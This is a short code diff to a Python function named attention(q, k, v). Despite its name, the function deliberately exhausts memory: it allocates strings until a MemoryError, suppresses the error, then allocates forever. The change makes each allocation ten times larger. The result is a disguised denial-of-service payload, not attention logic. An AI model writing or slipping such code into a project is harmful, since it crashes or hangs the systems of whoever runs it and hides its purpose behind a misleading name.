@@ -6,8 +6,8 @@ def attention(q, k, v):
     hoard = {}
     try:
         while True:
-            hoard[len(hoard)] = "x" * 10_000
+            hoard[len(hoard)] = "x" * 100_000
     except MemoryError:
         pass
     while True:
-        hoard[len(hoard)] = "x" * 10_000
+        hoard[len(hoard)] = "x" * 100_000
